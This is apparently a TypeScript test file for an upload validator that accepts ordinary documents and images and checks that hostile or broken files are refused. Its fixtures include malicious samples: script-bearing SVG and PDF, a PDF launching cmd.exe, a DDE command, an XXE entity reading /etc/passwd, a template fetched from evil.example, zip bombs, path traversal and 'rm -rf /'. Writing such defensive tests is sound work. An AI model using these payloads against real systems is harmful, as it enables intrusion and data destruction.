import { describe, expect, it } from 'vitest'
import { deflateRawSync } from 'node:zlib'
import { fileFaultText, type FileFault } from './faults.ts'
import { judgeFile } from './judge.ts'
import { documentKinds, MEGABYTE, uploadHint } from './kinds.ts'
import { aDocx, aJpeg, anObjectStream, anOdt, anXlsx, aPdf, aPng, aZip } from './testing/samples.ts'

const rule = { kinds: documentKinds, mostFiles: 1, mostBytes: 10 * MEGABYTE }
const judge = (name: string, bytes: Buffer | string) => judgeFile({ name, bytes: Buffer.from(bytes) }, rule)

const good: readonly (readonly [string, string, () => Buffer | string | Promise<Buffer>])[] = [
  ['a PDF', 'Care plan.pdf', () => aPdf()],
  [
    'a PDF whose objects are compressed',
    'Plan.PDF',
    () => aPdf({ objects: [anObjectStream('<< /Type /Metadata >>')] }),
  ],
  ['a Word document', 'Plan.docx', () => aDocx()],
  ['a Word document with a link', 'Plan.docx', () => aDocx([external('hyperlink', 'https://example.org')])],
  [
    'a Word document made from somebody’s own template',
    'Plan.docx',
    () => aDocx([external('attachedTemplate', 'file:///C:\\Users\\a\\Letter.dotx')]),
  ],
  ['an Excel workbook', 'Hours.xlsx', () => anXlsx()],
  ['an OpenDocument text', 'Plan.odt', () => anOdt()],
  ['a PNG', 'scan.png', () => aPng(2_480, 3_508)],
  ['a JPEG', 'IMG 0001.JPG', () => aJpeg(4_000, 3_000)],
  ['a JPEG with a telephone’s own data behind it', 'a.jpeg', () => Buffer.concat([aJpeg(), Buffer.from('SEFH depth')])],
  ['text of every alphabet', 'Nötes – Siân 维.txt', () => 'Olá, Zoë – 维 – 😀\n'],
  ['a CSV as Excel on Windows writes it', 'hours.csv', () => Buffer.from('Name;£\r\nSi\u00e2n;2\r\n', 'latin1')],
  ['a CSV of two-byte letters', 'hours.csv', () => Buffer.from('\uFEFFName,Hours\r\n', 'utf16le')],
  ['a CSV of two-byte letters without a mark', 'hours.csv', () => Buffer.from('Name,Hours\r\n', 'utf16le')],
  ['the same the other way round', 'hours.csv', () => Buffer.from('Name,Hours\r\n', 'utf16le').swap16()],
]

function external(type: string, target: string) {
  const relationship = `<Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/>`
  return { name: 'word/_rels/settings.xml.rels', content: `<Relationships>${relationship}</Relationships>` }
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const zeros = Buffer.alloc(40 * MEGABYTE)
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)])

/** The size in the header says ten bytes; what is inside is a thousand times that. */
async function lyingZip(): Promise<Buffer> {
  const bytes = await aDocx([{ name: 'word/media.xml', content: 'a'.repeat(10_000) }])
  const packed = deflateRawSync(Buffer.from('a'.repeat(10_000)))
  const at = bytes.indexOf(packed)
  const central = bytes.lastIndexOf(Buffer.from('word/media.xml')) - 46
  const lying = Buffer.from(bytes)
  lying.writeUInt32LE(10, central + 24)
  expect(at).toBeGreaterThan(0)
  return lying
}

/** One part listed three thousand times over the same bytes. */
async function overlappingZip(): Promise<Buffer> {
  const bytes = await aDocx([
    { name: 'word/a.xml', content: Buffer.from(Array.from({ length: 4_000 }, (_, i) => i % 251)) },
  ])
  const end = bytes.length - 22
  const directory = bytes.readUInt32LE(end + 16)
  const start = bytes.lastIndexOf(Buffer.from('word/a.xml')) - 46
  const entry = bytes.subarray(start, end)
  const many = Buffer.concat(Array.from({ length: 3_000 }, () => entry))
  const tail = Buffer.from(bytes.subarray(end))
  const count = tail.readUInt16LE(10) + 3_000
  tail.writeUInt16LE(count, 8)
  tail.writeUInt16LE(count, 10)
  tail.writeUInt32LE(end - directory + many.length, 12)
  return Buffer.concat([bytes.subarray(0, end), many, tail])
}

/** The count alone is enough to stop. */
const manyParts = async (): Promise<Buffer> => {
  const bytes = Buffer.from(await aDocx())
  bytes.writeUInt16LE(60_000, bytes.length - 14)
  bytes.writeUInt16LE(60_000, bytes.length - 12)
  return bytes
}

const withBit = async (): Promise<Buffer> => {
  const bytes = Buffer.from(await aDocx())
  const central = bytes.lastIndexOf(Buffer.from('[Content_Types].xml')) - 46
  bytes.writeUInt16LE(bytes.readUInt16LE(central + 8) | 1, central + 8)
  return bytes
}

const climbing = async (): Promise<Buffer> =>
  Buffer.from(
    (await aDocx([{ name: 'word/xx/evil.xml', content: '' }]))
      .toString('latin1')
      .replaceAll('word/xx/evil', '../../../evil'),
    'latin1',
  )

const hostile: readonly (readonly [string, FileFault, string, () => Buffer | string | Promise<Buffer>])[] = [
  ['an empty file', 'empty', 'a.pdf', () => ''],
  ['a file above the limit', 'too-large', 'a.txt', () => Buffer.alloc(10 * MEGABYTE + 1, 'a')],
  ['an SVG with a script', 'active-content', 'logo.txt', () => svg],
  ['an SVG that begins as XML', 'active-content', 'logo.txt', () => `<?xml version="1.0"?>\n${svg}`],
  ['an SVG that is called a PNG', 'active-content', 'logo.png', () => svg],
  ['a web page', 'active-content', 'plan.txt', () => '  <!DOCTYPE html><script>alert(1)</script>'],
  ['a web page that is called a PDF', 'active-content', 'plan.pdf', () => '<html><body>x</body></html>'],
  [
    'a PDF with a script',
    'active-content',
    'a.pdf',
    () => aPdf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
  ],
  [
    'a PDF with a script whose name is escaped',
    'active-content',
    'a.pdf',
    () => aPdf({ catalogue: '/OpenAction << /S /J#61vaScript /JS (x) >>' }),
  ],
  [
    'a PDF with a script in a compressed object',
    'active-content',
    'a.pdf',
    () => aPdf({ objects: [anObjectStream('<< /S /JavaScript /JS (app.alert(1)) >>')] }),
  ],
  [
    'a PDF that starts a program',
    'active-content',
    'a.pdf',
    () => aPdf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  ],
  [
    'a PDF that is a program of its own (XFA)',
    'active-content',
    'a.pdf',
    () => aPdf({ catalogue: '/AcroForm << /XFA [(template) 6 0 R] >>' }),
  ],
  [
    'a PDF with a file inside',
    'holds-files',
    'a.pdf',
    () => aPdf({ catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>' }),
  ],
  ['a PDF with a password', 'password', 'a.pdf', () => aPdf({ trailer: '/Encrypt << /Filter /Standard /V 4 >>' })],
  ['a PDF that was cut short', 'damaged', 'a.pdf', () => aPdf().subarray(0, 300)],
  ['a PDF cut at 99 hundredths', 'damaged', 'a.pdf', () => aPdf().subarray(0, -8)],
  [
    'a PDF whose cross-reference is not where it says',
    'damaged',
    'a.pdf',
    () =>
      aPdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n99'),
  ],
  [
    'a PDF with a zip behind it',
    'two-in-one',
    'a.pdf',
    async () => Buffer.concat([aPdf(), await aZip([{ name: 'a.txt', content: 'x' }])]),
  ],
  [
    'a PDF with a web page behind it',
    'two-in-one',
    'a.pdf',
    () => Buffer.concat([aPdf(), Buffer.from('<script>alert(1)</script>')]),
  ],
  [
    'a picture with a PDF in its beginning',
    'two-in-one',
    'a.jpg',
    () => Buffer.concat([aJpeg().subarray(0, 20), aPdf(), aJpeg()]),
  ],
  ['text with a PDF in its beginning', 'two-in-one', 'a.txt', () => Buffer.concat([Buffer.from('hello\n'), aPdf()])],
  [
    'a PDF whose objects unpack to 40 MB',
    'bomb',
    'a.pdf',
    () => aPdf({ objects: [anObjectStream(zeros.toString('latin1'))] }),
  ],
  [
    'a JPEG with a zip behind it',
    'two-in-one',
    'a.jpg',
    async () => Buffer.concat([aJpeg(), await aZip([{ name: 'a.txt', content: 'x' }])]),
  ],
  ['a JPEG with a program behind it', 'two-in-one', 'a.jpg', () => Buffer.concat([aJpeg(), Buffer.from('MZ\x90')])],
  ['a JPEG of a billion pixels', 'picture-too-big', 'a.jpg', () => aJpeg(60_000, 60_000)],
  ['a JPEG that was cut short', 'damaged', 'a.jpg', () => aJpeg().subarray(0, -2)],
  ['a PNG of ten billion pixels', 'picture-too-big', 'a.png', () => aPng(100_000, 100_000)],
  ['a PNG that was cut short', 'damaged', 'a.png', () => aPng().subarray(0, -6)],
  ['a PNG with something behind it', 'two-in-one', 'a.png', () => Buffer.concat([aPng(), Buffer.from('<?php')])],
  ['a Word document with macros', 'macros', 'a.docx', () => aDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
  [
    'a workbook with the macros of 1992',
    'macros',
    'a.xlsx',
    () => anXlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
  ],
  [
    'a Word document that says it has macros',
    'macros',
    'a.docx',
    () =>
      aZip([
        {
          name: '[Content_Types].xml',
          content: '<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>',
        },
      ]),
  ],
  [
    'an OpenDocument text with macros',
    'macros',
    'a.odt',
    () => anOdt([{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }]),
  ],
  [
    'a Word document that runs a command (DDE)',
    'active-content',
    'a.docx',
    () => aDocx([], '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>'),
  ],
  [
    'a Word document that fetches its template',
    'links-outside',
    'a.docx',
    () => aDocx([external('attachedTemplate', 'https://evil.example/t.dotm')]),
  ],
  [
    'a Word document that fetches from a network share',
    'links-outside',
    'a.docx',
    () => aDocx([external('oleObject', '\\\\evil\\share')]),
  ],
  [
    'a Word document with an entity (XXE)',
    'active-content',
    'a.docx',
    () => aDocx([], '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  ],
  [
    'a Word document with an entity in two-byte letters',
    'active-content',
    'a.docx',
    () => aDocx([{ name: 'word/a.xml', content: Buffer.from('<!DOCTYPE x>', 'utf16le') }]),
  ],
  [
    'a Word document with a program inside',
    'holds-files',
    'a.docx',
    () => aDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
  ],
  ['a Word document with a password', 'old-office', 'a.docx', () => OLE],
  ['an old Word document', 'old-office', 'a.doc', () => OLE],
  ['a zip whose parts have a password', 'password', 'a.docx', withBit],
  ['a zip bomb', 'bomb', 'a.docx', () => aDocx([{ name: 'word/a.xml', content: zeros }])],
  ['a zip whose header lies', 'damaged', 'a.docx', lyingZip],
  ['a zip whose parts lie over one another', 'bomb', 'a.docx', overlappingZip],
  ['a zip of 60,000 parts', 'bomb', 'a.docx', manyParts],
  ['a zip whose part climbs out of its folder', 'damaged', 'a.docx', climbing],
  ['a zip that was cut short', 'two-in-one', 'a.docx', async () => (await aDocx()).subarray(0, -10)],
  [
    'a zip behind a picture that is called a document',
    'two-in-one',
    'a.docx',
    async () => Buffer.concat([aPng(), await aDocx()]),
  ],
  ['a zip with a comment', 'two-in-one', 'a.docx', async () => Buffer.concat([await aDocx(), Buffer.from('<script>')])],
  ['a zip that is no document', 'wrong-kind', 'a.zip', () => aZip([{ name: 'a.txt', content: 'x' }])],
  ['a PDF that is called a picture', 'not-its-ending', 'a.png', () => aPdf()],
  ['a picture that is called a PDF', 'not-its-ending', 'a.pdf', () => aPng()],
  ['a program', 'wrong-kind', 'a.pdf', () => Buffer.concat([Buffer.from('MZ\x90\0\x03'), Buffer.alloc(600)])],
  ['a program of another system', 'wrong-kind', 'a.txt', () => Buffer.from('7f454c46020101000000000000000000', 'hex')],
  ['a script', 'wrong-kind', 'a.txt', () => '#!/bin/sh\nrm -rf /\n'],
  ['noise that is called a CSV', 'wrong-kind', 'a.csv', () => Buffer.from([1, 2, 3, 4, 0, 5, 6, 7])],
]

describe('a file that is what it says', () => {
  it.each(good)('is taken: %s', async (_what, name, make) => {
    expect(await judge(name, await make())).toHaveProperty('kind')
  })
})

describe('a hostile or broken file', () => {
  it.each(hostile)('is refused with one sentence: %s', async (_what, fault, name, make) => {
    const bytes = await make()
    const started = performance.now()
    expect(await judge(name, bytes)).toEqual({ fault })
    expect(performance.now() - started).toBeLessThan(2_000)
    expect(fileFaultText(fault, rule)).toMatch(/^[A-Z][^\n]{10,200}[^.]$/)
  })
})

it('says what may be sent in the words of the rule', () => {
  expect(uploadHint({ ...rule, kinds: ['pdf', 'csv'] })).toBe('PDF or CSV, up to 10MB')
  expect(uploadHint({ kinds: ['pdf'], mostFiles: 3, mostBytes: MEGABYTE })).toBe('Up to 3 files. PDF, each up to 1MB')
  expect(fileFaultText('wrong-kind', { ...rule, kinds: ['pdf', 'docx', 'png'] })).toBe(
    'The selected file must be a PDF, Word (.docx) or PNG file',
  )
})

it('takes no kind that the form did not ask for', async () => {
  expect(await judgeFile({ name: 'a.pdf', bytes: aPdf() }, { ...rule, kinds: ['csv'] })).toEqual({
    fault: 'wrong-kind',
  })
})
